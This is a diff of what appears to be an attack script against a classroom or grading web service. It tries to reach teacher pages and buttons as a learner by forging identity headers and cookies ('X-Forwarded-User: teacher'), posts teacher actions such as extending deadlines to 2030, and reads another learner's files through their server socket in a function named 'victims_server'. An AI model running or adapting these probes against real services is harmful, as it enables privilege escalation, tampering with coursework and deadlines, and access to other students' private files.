@@ -124,8 +124,8 @@ base = "/services/class/"
 for path in ("", "state", "collect/ps1"):
     tried(f"the teacher's page {path}", lambda: (lambda s: s[0] == 200 and s)(asked(SERVICE, "GET", base + path, OWN)))
     tried(f"the teacher's page {path} with a forged name", lambda: (lambda s: s[0] == 200 and s)(asked(SERVICE, "GET", base + path, {**OWN, "X-Forwarded-User": "teacher", "Remote-User": "teacher", "Cookie": "service-class=teacher"})))
-for what in ("release", "close", "open", "extend", "collect"):
-    body = json.dumps({"do": what, "what": what, "release": "ps1", "module": "1", "learner": ME, "until": "2030-01-01T00:00"})
+for what in ("give", "close", "extend"):
+    body = json.dumps({"action": what, "due": "2030-01-01T00:00", "release": "ps1", "module": "1", "learner": ME})
     tried(f"the teacher's button {what}", lambda: (lambda s: s[0] < 300 and s)(asked(SERVICE, "POST", base + "do", {**OWN, "Content-Type": "application/json"}, body)))
 def victims_server():
     return (lambda s: s[0] == 200 and s)(asked(f"{RUN}/learners/{NUMBER}/server.sock", "GET", f"/user/{OTHER}/api/contents", OWN))
